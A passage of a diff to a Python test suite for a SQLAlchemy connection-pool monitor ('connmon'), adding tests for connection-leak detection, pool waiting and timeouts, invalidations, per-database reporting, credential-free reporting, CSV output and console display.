+        lookup(session)
+        held.append(True)
+        eventlet.sleep(600)   # GREEN-ORM-HELD
+
+eventlet.spawn(orm_request)
+while not held:
+    eventlet.sleep(0.01)
+print("ready", flush=True)
+eventlet.sleep(600)
+"""
+
+GEVENT_ORM_SCRIPT = GREEN_ORM_SCRIPT.replace(
+    "import eventlet\neventlet.monkey_patch()\n",
+    "from gevent import monkey\nmonkey.patch_all()\nimport gevent\n").replace(
+    "eventlet.", "gevent.")
+
+ASYNC_ORM_SCRIPT = r"""
+import asyncio, json, sys
+import sqlalchemy as sa
+from sqlalchemy.ext.asyncio import async_sessionmaker, create_async_engine
+
+async def lookup(session):
+    return (await session.execute(sa.text("SELECT 1"))).scalar()   # ASYNC-ORM-SITE
+
+async def orm_request(Session, held):
+    async with Session() as session, session.begin():
+        await lookup(session)
+        held.set()
+        await asyncio.sleep(600)   # ASYNC-ORM-HELD
+
+async def main():
+    engine = create_async_engine(sys.argv[1], **json.loads(sys.argv[2]))
+    held = asyncio.Event()
+    request = asyncio.create_task(orm_request(async_sessionmaker(engine),
+                                              held), name="request-1")
+    await held.wait()
+    print("ready", flush=True)
+    await asyncio.sleep(600)
+
+asyncio.run(main())
+"""
+
+MODULE_SCRIPT = r"""
+import json, sys, time
+import sqlalchemy as sa
+from sqlalchemy import orm
+
+engine = sa.create_engine(sys.argv[1], **json.loads(sys.argv[2]))
+
+def lookup(session):
+    return session.execute(sa.text("SELECT 1")).scalar()   # MODULE-ORM-SITE
+
+conn = engine.connect()   # MODULE-SITE
+with orm.Session(engine) as session, session.begin():
+    lookup(session)
+    print("ready", flush=True)
+    time.sleep(600)   # MODULE-HELD
+"""
 
 
-def console(*args: str) -> subprocess.CompletedProcess:
+def test_leak_finder_holds_orm_and_enginefacade_requests(tmp_path,
+                                                         leak_daemon):
+    """The held-or-leaked table of ORM applications, and more: each connection is held by the
+    request that asked for it (at the request's current line), though the
+    helper that ran its first query returned; the pooled thread's stored
+    connection is leaked."""
+    app = ScriptApp(tmp_path, ORM_SCRIPT, mariadb_leak_url(leak_daemon),
+                    "orm.py", pool_size=10)
+    try:
+        assert app.said == ["True"]
+        at = functools.partial(place, app, source=ORM_SCRIPT)
+        verdicts(leak_daemon, app, {
+            at("ORM-SITE", "lookup"): at("ORM-HELD", "orm_request"),
+            at("READER-SITE", "_lookup"): at("READER-HELD", "api_get"),
+            at("NESTED-SITE", "_read_nested"): at("WRITER-HELD",
+                                                  "api_update"),
+            at("HANDED-SITE", "open_conn"): at("HANDED-HELD", "caller"),
+            at("VIEW-SITE", "view"): at("MIDDLEWARE-HELD", "middleware"),
+            at("STORED-SITE", "store_and_go"): "leaked"})
+    finally:
+        app.stop()
+
+
+def test_leak_finder_worker_thread_serving_other_requests(tmp_path,
+                                                         leak_daemon):
+    """A worker thread whose requests leaked a Session (the view's, which
+    the middleware forgot; the handler's own) and which then serves
+    another request of the same handler, in a frame at the leaking
+    frame's address: leaked."""
+    app = ScriptApp(tmp_path, WORKER_SCRIPT, mariadb_leak_url(leak_daemon),
+                    "worker.py", pool_size=10)
+    try:
+        assert app.said == ["True"], "no frame was given the same memory"
+        at = functools.partial(place, app, source=WORKER_SCRIPT)
+        verdicts(leak_daemon, app, {
+            at("VIEW-SITE", "view"): "leaked",
+            at("WORKER-LEAK-SITE", "handle"): "leaked",
+            at("WORKER-SLOW-SITE", "handle"): at("WORKER-SLOW-HELD",
+                                                 "handle")})
+    finally:
+        app.stop()
+
+
+@pytest.mark.parametrize("runtime", ["eventlet", "gevent"])
+def test_leak_finder_holds_orm_requests_in_greenlets(tmp_path, leak_daemon,
+                                                     runtime):
+    source = GREEN_ORM_SCRIPT if runtime == "eventlet" else GEVENT_ORM_SCRIPT
+    app = ScriptApp(tmp_path, source, mariadb_leak_url(leak_daemon),
+                    f"green_orm_{runtime}.py", pool_size=10)
+    try:
+        at = functools.partial(place, app, source=source)
+        verdicts(leak_daemon, app, {
+            at("GREEN-ORM-SITE", "lookup"): at("GREEN-ORM-HELD",
+                                               "orm_request")})
+    finally:
+        app.stop()
+
+
+def test_leak_finder_holds_orm_requests_in_asyncio_tasks(tmp_path,
+                                                         leak_daemon):
+    app = ScriptApp(tmp_path, ASYNC_ORM_SCRIPT,
+                    mariadb_leak_url(leak_daemon, "aiomysql"),
+                    "async_orm.py", pool_size=10)
+    try:
+        at = functools.partial(place, app, source=ASYNC_ORM_SCRIPT)
+        verdicts(leak_daemon, app, {
+            at("ASYNC-ORM-SITE", "lookup"):
+                at("ASYNC-ORM-HELD", "orm_request") + " (task request-1)"})
+    finally:
+        app.stop()
+
+
+def test_leak_finder_holds_a_module_level_script(tmp_path, leak_daemon):
+    """A script holding connections at module level while it sleeps: its
+    module's frame runs, so both are held there."""
+    app = ScriptApp(tmp_path, MODULE_SCRIPT, mariadb_leak_url(leak_daemon),
+                    "module_level.py", pool_size=10)
+    try:
+        at = functools.partial(place, app, source=MODULE_SCRIPT)
+        held = at("MODULE-HELD", "<module>")
+        verdicts(leak_daemon, app, {at("MODULE-SITE", "<module>"): held,
+                                    at("MODULE-ORM-SITE", "lookup"): held})
+    finally:
+        app.stop()
+
+
+def test_console_marks_a_sure_leak_alike_in_every_view(tmp_path,
+                                                       leak_daemon,
+                                                       terminal):
+    """A held connection and a leaked one, past hold_warn_seconds: "*" for
+    the leak in the table, the drill-down's process and long holder, and
+    the sites view; "!" for the held one; the sites whole on a wide
+    screen, and cut from the left of their paths (never their line and
+    function) on a narrow one."""
+    app = leak_app(tmp_path, leak_daemon)
+    try:
+        app("sleeper")
+        app("leak 1")
+        sleeper, leak = (leak_site("SLEEPER-SITE", "sleeper"),
+                         leak_site("LEAK-SITE", "leak"))
+        wait_until(lambda: sorted(
+            h["held_at"] for s in sites_of(leak_daemon, "leaky.py").values()
+            for h in s["long_holders"]) == [
+                f"{tmp_path / leak_site('SLEEPER-HELD', 'sleeper')}",
+                "thread gone"], 30, "the two verdicts")
+        term = terminal("-H", leak_daemon.address, "-i", "0.2", cols=200)
+        term.wait_for(lambda t: [row[-1][0] for row in table_on_screen(t)[1]
+                                 ] == ["*"], "OLDEST marked * in the table")
+        term.press(b"s")
+
+        def oldest_marks(t: Terminal) -> Dict[str, str]:
+            return {fields[4].rsplit("/", 1)[-1]: fields[3][0]
+                    for fields in (line.rstrip().split(None, 4)
+                                   for line in t.display[7:-1])
+                    if len(fields) == 5 and fields[2].isdigit()}
+        term.wait_for(lambda t: oldest_marks(t) == {sleeper: "!", leak: "*"},
+                      "the sites' OLDEST marked")
+        assert sorted(s for _, _, s in screen_sites(term)) == [
+            str(tmp_path / leak), str(tmp_path / sleeper)]
+        term.resize(80, 30)
+
+        def cut_in_their_paths(t: Terminal) -> bool:
+            shown = [s for _, _, s in screen_sites(t)]
+            return len(shown) == 2 and all(
+                s.startswith("\N{HORIZONTAL ELLIPSIS}")
+                and re.search(r":[0-9]+ in (leak|sleeper)$", s)
+                and any(str(tmp_path / name).endswith(s[1:])
+                        for name in (leak, sleeper)) for s in shown)
+        term.wait_for(cut_in_their_paths, "sites cut in their paths only")
+        term.resize(200, 30)
+        term.press(b"\x1b")
+        term.press(b"\r")
+        term.wait_text("leaky.py on ")
+        term.wait_for(lambda t: [line.split()[1][0]
+                                 for line in holder_lines(t)] == ["!", "*"],
+                      "the long holders' AGE marked")
+        (proc,) = [line.split() for line in term.display[7:9]
+                   if line.split()[:1] == [str(app.proc.pid)]]
+        assert proc[-3][0] == "*", proc   # OLDEST (then CONNECTED SINCE)
+    finally:
+        app.stop()
+
+
+# ===========================================================================
+# Pool pressure and databases
+#
+# Waiting, timeouts, wait times and connect errors as the application saw
+# them, invalidations, engines and databases kept apart, the application's
+# own pools, the database servers setting; in the CSV and in the console at
+# 80x24.
+# ===========================================================================
+
+
+# The application of these tests: engines (one per URL; the first is the
+# one "crowd" uses), on threads or, with mode "asyncio", on tasks of an
+# event loop run by a thread of its own.  "crowd N HOLD" starts N threads
+# (tasks) that each check out a connection and hold it HOLD seconds,
+# timing their own wait; "use I" checks out and returns a connection of
+# engine I, answering the seconds it waited (a process is attached from
+# its first use of a pool); "outcomes" answers once all are done, with each
+# one's outcome and seconds waited, as JSON.
+PRESSURE_APP_SCRIPT = r'''
+import asyncio, json, sys, threading, time
+import sqlalchemy as sa
+from sqlalchemy.ext.asyncio import create_async_engine
+
+urls, options = json.loads(sys.argv[1]), json.loads(sys.argv[2])
+mode = options.pop("mode", "threads")
+outcomes, held, started = [], [], []
+
+def answer(*words):
+    print(*words, flush=True)
+
+if mode == "asyncio":
+    loop = asyncio.new_event_loop()
+    threading.Thread(target=loop.run_forever, daemon=True).start()
+    engines = [create_async_engine(url, **options) for url in urls]
+
+    async def worker(hold):
+        began = time.monotonic()
+        try:
+            conn = await engines[0].connect()
+        except sa.exc.TimeoutError:
+            outcomes.append(["timeout", time.monotonic() - began])
+            return
+        outcomes.append(["ok", time.monotonic() - began])
+        await asyncio.sleep(hold)
+        await conn.close()
+
+    def crowd(n, hold):
+        for _ in range(n):
+            started.append(asyncio.run_coroutine_threadsafe(worker(hold),
+                                                            loop))
+
+    def hold_one(index):
+        async def connect():
+            conn = await engines[index].connect()
+            await conn.exec_driver_sql("SELECT 1")
+            return conn
+        held.append(asyncio.run_coroutine_threadsafe(connect(),
+                                                     loop).result(30))
+
+    def use(index):
+        async def connect_and_close():
+            began = time.monotonic()
+            conn = await engines[index].connect()
+            waited = time.monotonic() - began
+            await conn.close()
+            return waited
+        return asyncio.run_coroutine_threadsafe(connect_and_close(),
+                                                loop).result(30)
+else:
+    engines = [sa.create_engine(url, **options) for url in urls]
+
+    def worker(hold):
+        began = time.monotonic()
+        try:
+            conn = engines[0].connect()
+        except sa.exc.TimeoutError:
+            outcomes.append(["timeout", time.monotonic() - began])
+            return
+        outcomes.append(["ok", time.monotonic() - began])
+        time.sleep(hold)
+        conn.close()
+
+    def crowd(n, hold):
+        for _ in range(n):
+            thread = threading.Thread(target=worker, args=(hold,))
+            thread.start()
+            started.append(thread)
+
+    def hold_one(index):
+        conn = engines[index].connect()
+        conn.exec_driver_sql("SELECT 1")
+        held.append(conn)
+
+    def use(index):
+        began = time.monotonic()
+        conn = engines[index].connect()
+        waited = time.monotonic() - began
+        conn.close()
+        return waited
+
+for line in sys.stdin:
+    cmd, *args = line.split()
+    if cmd == "crowd":
+        crowd(int(args[0]), float(args[1]))
+    elif cmd == "hold":
+        hold_one(int(args[0]))
+    elif cmd == "use":   # a process is attached from its first pool use
+        answer("ok", use(int(args[0])))
+        continue
+    elif cmd == "outcomes":
+        for job in started:
+            (job.result if mode == "asyncio" else job.join)(30)
+        answer("ok", json.dumps(outcomes, separators=(",", ":")))
+        continue
+    answer("ok")
+'''
+
+
+class PressureApp(App):
+    source = PRESSURE_APP_SCRIPT
+
+
+@pytest.fixture
+def pressure_apps(apps):
+    """Start a PressureApp with engines for ``urls``."""
+    def start(urls: List[str], progname: str, **options: Any) -> App:
+        return apps(json.dumps(urls), progname, app_class=PressureApp,
+                    **options)
+    return start
+
+
+def plain_table(daemon: Daemon, *args: str) -> str:
+    """connmon --once, the plain table."""
     return subprocess.run(
-        [sys.executable, "-m", "connmon_console", "--once", "--json", *args],
-        cwd=HERE, env=CHILD_ENV, capture_output=True, text=True, timeout=30)
+        [sys.executable, "-m", "connmon_console", "--once", "-H",
+         daemon.address, *args], cwd=HERE, env=CHILD_ENV,
+        capture_output=True, text=True, timeout=30, check=True).stdout
 
 
-def sqlite_app_url(tmp_path, query: str) -> str:
-    return f"sqlite:///{tmp_path}/hardening.sqlite?plugin=connmon&{query}"
+def pressure_daemon(tmp_path, extra_config: str = "") -> Tuple[Daemon, int]:
+    """A daemon serving /metrics too; and its metrics port."""
+    port = free_port()
+    return Daemon(tmp_path, extra_config=f"metrics_port: {port}\n"
+                  f"metrics_bind: 127.0.0.1\n{extra_config}"), port
+
+
+PRESSURE_BACKENDS = {
+    "mysql-threads": (MYSQL_URL, "threads"),
+    "postgresql-threads": (POSTGRESQL_URL, "threads"),
+    "mysql-asyncio": (MYSQL_URL.replace("+pymysql", "+aiomysql"), "asyncio"),
+    "postgresql-asyncio": (
+        POSTGRESQL_URL.replace("+psycopg2", "+asyncpg"), "asyncio"),
+}
+
+
+@pytest.mark.parametrize("backend", list(PRESSURE_BACKENDS))
+def test_waiting_timeouts_and_wait_times_as_the_app_saw_them(
+        backend, tmp_path, pressure_apps):
+    """pool_size=2, max_overflow=0, pool_timeout=1 and six threads (or
+    tasks) that each want a connection for 3 s: two get one, four wait
+    and time out.  The daemon shows them waiting while they wait, counts
+    the timeouts the app counted, and the waits the app timed."""
+    url, mode = PRESSURE_BACKENDS[backend]
+    require_database(url.replace("+aiomysql", "+pymysql")
+                     .replace("+asyncpg", "+psycopg2"))
+    daemon, metrics_port = pressure_daemon(tmp_path)
+    try:
+        name = f"crowd-{mode}.py"
+        app = pressure_apps([f"{url}?plugin=connmon&connmon_addr="
+                             f"{daemon.address}"], name, mode=mode,
+                            pool_size=2, max_overflow=0, pool_timeout=1)
+        warm_up = float(app("use 0")[0])   # one wait before the crowd's
+        daemon.wait_row(name, nproc=1)
+        crowd_began = time.monotonic()
+        app("crowd 6 3")
+
+        def waiting() -> Optional[Tuple[dict, dict]]:
+            snapshot = daemon.snapshot()
+            (row,) = [r for r in snapshot["rows"] if r["progname"] == name]
+            return (snapshot, row) if row["waiting"] >= 3 else None
+        snapshot, row = wait_until(waiting, what="checkouts waiting")
+        assert time.monotonic() - crowd_began < 1.0, "seen only after the " \
+            "timeouts: the waits were not seen as they happened"
+        assert 10 <= row["longest_wait_ms"] <= (
+            time.monotonic() - crowd_began) * 1000
+        assert snapshot["waiting"] == row["waiting"]
+        (server,) = snapshot["databases"]
+        assert server["waiting"] == row["waiting"]
+        # The timeouts, then the last second's longest wait: about 1 s.
+        row = wait_until(lambda: (lambda r: r if r["timeouts_total"] == 4 and (
+            r["wait_max_ms"] or 0) >= 900 else None)(daemon.row(name)), 5,
+            "four timeouts and the waits' maximum")
+        wait_max_ms = row["wait_max_ms"]
+        table = plain_table(daemon)
+        assert re.search(rf"{re.escape(name)}.*\n    waiting \d+ \(max "
+                         r"\d+.*timeouts \d+/s \(4\)", table), table
+
+        outcomes = json.loads(app("outcomes", timeout=60)[0])
+        timeouts = [waited for outcome, waited in outcomes
+                    if outcome == "timeout"]
+        assert len(outcomes) == 6 and len(timeouts) == 4
+        row = daemon.wait_row(name, timeouts_total=4, waiting=0, ckout=0,
+                              waits_total=7)
+        assert row["maxwaiting"] >= 4
+        assert daemon.snapshot()["max_waiting"] >= 4
+        # connmon times the wait inside the pool, the app around it: never
+        # longer, and short of it only by the engine's own few steps.
+        app_waits = warm_up + sum(waited for _, waited in outcomes)
+        assert app_waits - 0.05 * 7 <= row["wait_seconds_total"] <= app_waits
+        assert row["connects_total"] >= 2 and row["connect_seconds_total"] > 0
+        assert wait_max_ms <= round(max(waited for _, waited in outcomes)
+                                    * 1000, 1)   # (as the snapshot rounds)
+
+        # /metrics: the OpenTelemetry names, equal to the snapshot.
+        snapshot = daemon.snapshot()
+        samples = metric_samples(http_get(metrics_port, "/metrics")[2])
+        assert samples == expected_samples(snapshot)
+        host = socket.gethostname()
+        assert samples[("db_client_connection_timeouts_total", host,
+                        name)] == 4
+        assert samples[("db_client_connection_wait_time_seconds_count",
+                        host, name)] == 7
+        assert samples[("db_client_connection_pending_requests", host,
+                        name)] == 0
+        assert samples[("connmon_max_pending_requests", host, name)] >= 4
+    finally:
+        daemon.stop()
+
+
+def test_failing_pre_ping_counts_as_an_invalidation(daemon, apps):
+    require_database(MYSQL_URL)
+    app = apps(monitored(MYSQL_URL, daemon), "preping.py", pool_size=2,
+               pool_pre_ping=True)
+    app("hold 1")
+    (thread_id,) = app("backend_pid")
+    app("release 1")
+    daemon.wait_row("preping.py", conn=1, ckout=0, invalidations_total=0)
+    import sqlalchemy as sa
+    admin = sa.create_engine(MYSQL_URL, poolclass=sa.pool.NullPool)
+    with admin.connect() as conn:
+        conn.execute(sa.text(f"KILL CONNECTION {int(thread_id)}"))
+    app("query 1")   # the pre-ping fails: invalidated, connected anew
+    row = daemon.wait_row("preping.py", conn=1, ckout=0,
+                          invalidations_total=1)
+    assert row["connect_errors_total"] == 0 and row["timeouts_total"] == 0
+    assert row["connects_total"] == 2
+    app("hold 1")
+    app("invalidate")   # Connection.invalidate(): one more
+    daemon.wait_row("preping.py", invalidations_total=2)
+
+
+def test_two_engines_to_two_databases_kept_apart(tmp_path, pressure_apps):
+    """nova's nova and nova_api: one process, engines to two databases of
+    one server (and one to another server): --procs and the databases
+    view show each pool apart, the row keeps the sums."""
+    require_database(POSTGRESQL_URL)
+    require_database(MYSQL_URL)
+    daemon = Daemon(tmp_path, extra_config=(
+        "database_servers:\n    127.0.0.1:5432 max_connections=100\n"))
+    try:
+        query = f"?plugin=connmon&connmon_addr={daemon.address}"
+        api_url = POSTGRESQL_URL.rsplit("/", 1)[0] + "/postgres"
+        app = pressure_apps([POSTGRESQL_URL + query, api_url + query,
+                             MYSQL_URL + query], "nova-like.py",
+                            pool_size=3, max_overflow=1)
+        for index in (0, 0, 1, 2):
+            app(f"hold {index}")
+        row = daemon.wait_row("nova-like.py", procs=True, conn=4, ckout=4,
+                              limit=12)
+        (proc,) = row["procs"]
+        pools = {(p["endpoint"]["backend"], p["endpoint"]["database"]):
+                 (p["conn"], p["ckout"], p["limit"]) for p in proc["pools"]}
+        assert pools == {("postgresql", "test"): (2, 2, 4),
+                         ("postgresql", "postgres"): (1, 1, 4),
+                         ("mysql", "test"): (1, 1, 4)}
+        for pool in proc["pools"]:
+            endpoint = pool["endpoint"]
+            assert endpoint["host"] == "127.0.0.1"
+            assert endpoint["port"] == {"postgresql": 5432,
+                                        "mysql": 3306}[endpoint["backend"]]
+            assert endpoint["user"] == {"postgresql": "postgres",
+                                        "mysql": "root"}[endpoint["backend"]]
+        servers = {s["server"]: s for s in daemon.snapshot()["databases"]}
+        postgres, mysql = servers["127.0.0.1:5432"], servers["127.0.0.1:3306"]
+        assert (postgres["conn"], postgres["ckout"], postgres["limit"],
+                postgres["max_connections"], postgres["nproc"],
+                postgres["nprog"]) == (3, 3, 8, 100, 1, 1)
+        assert {d["database"]: (d["conn"], d["ckout"], d["limit"], d["users"])
+                for d in postgres["databases"]} == {
+            "test": (2, 2, 4, ["postgres"]),
+            "postgres": (1, 1, 4, ["postgres"])}
+        assert (mysql["conn"], mysql["max_connections"]) == (1, None)
+        assert [(p["progname"], p["conn"]) for p in postgres["programs"]] == [
+            ("nova-like.py", 3)]
+        table = plain_table(daemon, "--procs")
+        assert "postgresql://postgres@127.0.0.1:5432/postgres  conn 1" in table
+        assert "127.0.0.1:5432 (postgresql): conn 3 of 100" in table
+    finally:
+        daemon.stop()
+
+
+def test_no_password_query_or_url_on_the_wire(daemon, apps):
+    """Each pool reports backend, host, port, database and user, and
+    nothing else of its URL; connmon_endpoint=0 not even that."""
+    require_database(POSTGRESQL_URL)
+    relay = Relay(daemon.port)
+    password = "pr3ssure-Pa55"   # trust auth: the server ignores it
+    url = POSTGRESQL_URL.replace("postgres@", f"postgres:{password}@")
+    query = (f"connect_timeout=7&application_name=sekrit&plugin=connmon"
+             f"&connmon_addr=127.0.0.1:{relay.port}")
+    reported = apps(f"{url}?{query}", "endpoint.py")
+    hidden = apps(f"{url}?{query}&connmon_endpoint=0", "noendpoint.py")
+    for app in (reported, hidden):
+        app("hold 1")
+        daemon.wait_row(app.progname, conn=1, ckout=1)
+    relay.close()
+    with relay.lock:
+        wire = bytes(relay.received)
+    messages = [json.loads(line) for line in wire.splitlines()]
+    endpoints = [pool[2] for m in messages for pool in m.get("pools", [])]
+    assert {"backend": "postgresql", "host": "127.0.0.1", "port": 5432,
+            "database": "test", "user": "postgres"} in endpoints
+    assert None in endpoints   # connmon_endpoint=0
+    for secret in (password.encode(), b"connect_timeout", b"sekrit",
+                   b"://", b"psycopg2", b"plugin", b"connmon_"):
+        assert secret not in wire, secret
+    (row,) = [r for r in daemon.snapshot(procs=True)["rows"]
+              if r["progname"] == "noendpoint.py"]
+    assert row["procs"][0]["pools"][0]["endpoint"] is None
+
+
+def test_report_endpoints_off_in_the_config(tmp_path):
+    """report_endpoints: 0 in the service's section: no engine of the
+    service reports its database; a bad value fails create_engine()."""
+    import sqlalchemy as sa
+    daemon = Daemon(tmp_path, extra_config="report_endpoints: 0\n")
+    try:
+        url = (f"sqlite:///{tmp_path}/quiet.sqlite?plugin=connmon"
+               f"&connmon_service=test&connmon_config={daemon.config}")
+        engine = sa.create_engine(url)
+        with engine.connect():
+            (row,) = wait_until(lambda: [r for r in daemon.snapshot(
+                procs=True)["rows"] if r["ckout"] == 1], 10, "the checkout")
+        (pool,) = row["procs"][0]["pools"]
+        assert pool["endpoint"] is None and pool["conn"] == 1
+        assert [s["server"] for s in daemon.snapshot()["databases"]] == [None]
+        daemon.config.write_text(daemon.config.read_text().replace(
+            "report_endpoints: 0", "report_endpoints: no"))
+        message = "report_endpoints: expected 1 (on) or 0 (off), got 'no'"
+        with pytest.raises(connmon.ConfigError, match=re.escape(message)):
+            sa.create_engine(url)
+        # connmond's --check-config knows the applications' option too.
+        result = run_connmond("--check-config", "-c", str(daemon.config),
+                              "-s", "test")
+        assert result.returncode == 2 and message in result.stderr
+    finally:
+        daemon.stop()
+
+
+def test_connect_errors_counted(daemon):
+    """A database that cannot be reached: each failed checkout is a
+    connect error, not a timeout; nothing of it reaches the app but the
+    driver's own error."""
+    import sqlalchemy as sa
+    engine = sa.create_engine(
+        f"mysql+pymysql://root@127.0.0.1:{free_port()}/test?plugin=connmon"
+        f"&connmon_addr={daemon.address}")
+    for _ in range(2):
+        with pytest.raises(sa.exc.OperationalError):
+            engine.connect()
+    row = daemon.wait_row(connmon.progname(), connect_errors_total=2)
+    assert (row["timeouts_total"], row["connects_total"], row["conn"],
+            row["waits_total"]) == (0, 0, 0, 2)
+
+
+def test_connect_time_is_the_drivers_connect(daemon, tmp_path):
+    """A connect that takes 0.3 s counts 0.3 s (from the moment the pool
+    calls the driver to the pool's connect event), and a checkout of an
+    open connection counts none."""
+    import sqlite3
+
+    import sqlalchemy as sa
+
+    def slow_connect():
+        time.sleep(0.3)
+        return sqlite3.connect(str(tmp_path / "slow.db"))
+
+    engine = sa.create_engine(
+        f"sqlite:///{tmp_path}/slow.db?plugin=connmon"
+        f"&connmon_addr={daemon.address}", creator=slow_connect)
+    for _ in range(3):
+        engine.connect().close()
+    row = daemon.wait_row(connmon.progname(), connects_total=1)
+    assert 0.3 <= row["connect_seconds_total"] < 0.45, row
+
+
+@pytest.mark.parametrize("how", ["poolclass", "pool", "nullpool"])
+def test_the_apps_own_pool_keeps_working(how, daemon, tmp_path, caplog):
+    """poolclass= with the plugin is measured; pool= works and says, in
+    one log line, what is not measured; an unlimited pool never waits."""
+    import logging
+    import sqlalchemy as sa
+    url = (f"sqlite:///{tmp_path}/own.sqlite?plugin=connmon"
+           f"&connmon_addr={daemon.address}")
+    options: Dict[str, Any] = {
+        "poolclass": {"pool": sa.pool.QueuePool, "poolclass":
+                      sa.pool.QueuePool, "nullpool": sa.pool.NullPool}[how],
+        "pool_size": 1, "max_overflow": 0, "pool_timeout": 0.3}
+    if how == "nullpool":
+        options = {"poolclass": sa.pool.NullPool}
+    if how == "pool":
+        import sqlite3
+        options = {"pool": sa.pool.QueuePool(
+            lambda: sqlite3.connect(f"{tmp_path}/own.sqlite"), pool_size=1,
+            max_overflow=0, timeout=0.3)}
+    with caplog.at_level(logging.WARNING, logger="connmon"):
+        engine = sa.create_engine(url, **options)
+    measured = how != "pool"
+    assert isinstance(engine.pool, connmon.MeasuredPool) == measured
+    assert isinstance(engine.pool, sa.pool.NullPool if how == "nullpool"
+                      else sa.pool.QueuePool)
+    notes = [r.getMessage() for r in caplog.records
+             if "not measured" in r.getMessage()]
+    assert len(notes) == (0 if measured else 1)
+    progname = connmon.progname()
+    held = engine.connect()   # the first use attaches the process
+    if how != "nullpool":
+        with pytest.raises(sa.exc.TimeoutError):
+            engine.connect()
+    else:
+        engine.connect().close()
+    held.close()
+    engine.dispose()   # the recreated pool reports alike
+    with engine.connect() as conn:
+        conn.exec_driver_sql("SELECT 1")
+    row = daemon.wait_row(progname, ckout=0, ckout_total=2 if how !=
+                          "nullpool" else 3)
+    assert row["waiting"] == 0 and row["maxwaiting"] <= 1
+    assert row["timeouts_total"] == (1 if how in ("poolclass",) else 0)
+    assert row["waits_total"] == {"poolclass": 3, "pool": 0,
+                                  "nullpool": 3}[how]
+
+
+def test_engines_sharing_one_pool_count_it_once(daemon, tmp_path):
+    """Two engines given one pool= of the application's: its connections
+    and its capacity are counted once."""
+    import sqlite3
+    import sqlalchemy as sa
+    url = (f"sqlite:///{tmp_path}/shared.sqlite?plugin=connmon"
+           f"&connmon_addr={daemon.address}")
+    pool = sa.pool.QueuePool(
+        lambda: sqlite3.connect(f"{tmp_path}/shared.sqlite"), pool_size=3,
+        max_overflow=0)
+    first, second = (sa.create_engine(url, pool=pool) for _ in range(2))
+    held = [first.connect(), second.connect()]
+    progname = connmon.progname()
+    daemon.wait_row(progname, conn=2, ckout=2, limit=3)
+    for conn in held:
+        conn.close()
+    daemon.wait_row(progname, conn=2, ckout=0, limit=3)
+    pool.dispose()
+    daemon.wait_row(progname, conn=0, ckout=0, limit=3)
+
+
+def test_database_servers_setting_is_checked(tmp_path):
+    path = pathlib.Path(write(tmp_path, textwrap.dedent("""\
+        [connmon_service_a]
+        name: a
+        database_servers:
+            db1:3306 max_connections=151
+            db2 max_connections=500
+        nodes:
+            n1 hostname=127.0.0.1:5999
+        """)))
+    result = run_connmond("-c", str(path), "-s", "a", "--check-config")
+    assert result.returncode == 2
+    assert "database_servers: 'db2' needs its port" in result.stderr
+    path.write_text(path.read_text().replace("db2 ", "db2:5432 "))
+    assert run_connmond("-c", str(path), "-s", "a", "--check-config"
+                        ).returncode == 0
+    path.write_text(path.read_text().replace("=500", "=lots"))
+    result = run_connmond("-c", str(path), "-s", "a", "--check-config")
+    assert "expected HOST:PORT max_connections=N" in result.stderr
+
+
+def test_pressure_in_the_csv_columns(tmp_path, apps):
+    csv_path = tmp_path / "pressure.csv"
+    daemon = Daemon(tmp_path, extra_config=(
+        f"csv_dump: {csv_path}\ncsv_interval: 0.2\ncsv_columns: progname "
+        "waiting maxwaiting timeouts_total wait_seconds_total "
+        "invalidations_total connect_errors_total\n"))
+    try:
+        app = apps(f"sqlite:///{tmp_path}/c.sqlite?plugin=connmon"
+                   f"&connmon_addr={daemon.address}", "csvpressure.py",
+                   pool_size=1, max_overflow=0)
+        app("hold 1")
+        app("invalidate")
+        daemon.wait_row("csvpressure.py", invalidations_total=1)
+        rows = wait_until(lambda: [r for r in csv_rows(csv_path)
+                                   if r["invalidations_total"] == "1"], 10,
+                          "the invalidation in the CSV")
+        assert rows[-1]["progname"] == "csvpressure.py"
+        assert rows[-1]["timeouts_total"] == "0"
+        assert float(rows[-1]["wait_seconds_total"]) > 0
+    finally:
+        daemon.stop()
+
+
+def screen_row(t: Terminal, progname: str) -> Dict[str, str]:
+    """A table row on screen as heading -> field, alarm markers taken off
+    ({} while it is not on screen); "y" is its line.  Which columns are
+    there depends on the width (see COLUMNS' drop order)."""
+    heads, _ = table_on_screen(t)
+    marks = connmon_console.ABOVE + connmon_console.LEAKED
+    for y, line in enumerate(t.display):
+        fields = line.split()
+        if 7 <= y < len(t.display) - 1 and len(heads) > 2 and (
+                len(fields) == len(heads) and fields[1] == progname):
+            return {"y": y, **{head: field.lstrip(marks)
+                               for head, field in zip(heads, fields)}}
+    return {}
+
+
+def test_console_shows_waiting_programs_and_databases_at_80x24(
+        tmp_path, apps, pressure_apps, terminal):
+    """At 80x24: WAIT and TMOUT/S on screen, a waiting program's row in
+    the alarm's colours, its sites first in the sites view, its pressure
+    and pools in the drill-down, and the databases view against the
+    server's max_connections."""
+    require_database(MYSQL_URL)
+    daemon = Daemon(tmp_path, extra_config=(
+        "database_servers:\n    127.0.0.1:3306 max_connections=151\n"))
+    try:
+        query = f"?plugin=connmon&connmon_addr={daemon.address}"
+        calm = apps(f"sqlite:///{tmp_path}/calm.sqlite{query}", "calm.py")
+        calm("hold 5")
+        crowded = pressure_apps([MYSQL_URL + query], "wait.py",
+                                pool_size=2, max_overflow=0, pool_timeout=20)
+        crowded("crowd 6 25")
+        daemon.wait_row("wait.py", waiting=4, ckout=2)
+        term = terminal("-H", daemon.address, "-i", "0.2", cols=80,
+                        lines=24)
+        # At 80 columns WAIT and TMOUT/S stay (the MAX* group goes
+        # first); the table starts sorted by CONN, biggest first.
+        term.wait_for(lambda t: {key: screen_row(t, "wait.py").get(key)
+                                 for key in ("CONN", "CKOUT", "WAIT",
+                                             "TMOUT/S")} == {
+            "CONN": "2", "CKOUT": "2", "WAIT": "4", "TMOUT/S": "0"},
+            "wait.py WAIT 4")
+        assert "MAXCONN" not in term.text
+        assert "sorted by CONN descending" in term.text
+        assert re.search(r"Wait 4/\d+", term.text)
+        y = screen_row(term, "wait.py")["y"]
+        assert (term.screen.buffer[y][0].fg, term.screen.buffer[y][0].bg
+                ) == ("white", "red")
+        # Without colour too: the waiting number carries the marker.
+        assert "!4" in term.display[y].split()
+        y = screen_row(term, "calm.py")["y"]
+        assert term.screen.buffer[y][0].bg != "red"
+
+        term.press(b"s")   # the waiting program's sites come first
+        term.wait_for(lambda t: [p for p, _, _ in screen_sites(t)] == [
+            "wait.py", "calm.py"], "wait.py's site above calm.py's")
+        term.press(b"\x1b")
+        term.wait_for(lambda t: screen_row(t, "wait.py"), "the table")
+
+        term.press(b"d")   # the databases view
+        term.wait_text("database servers")
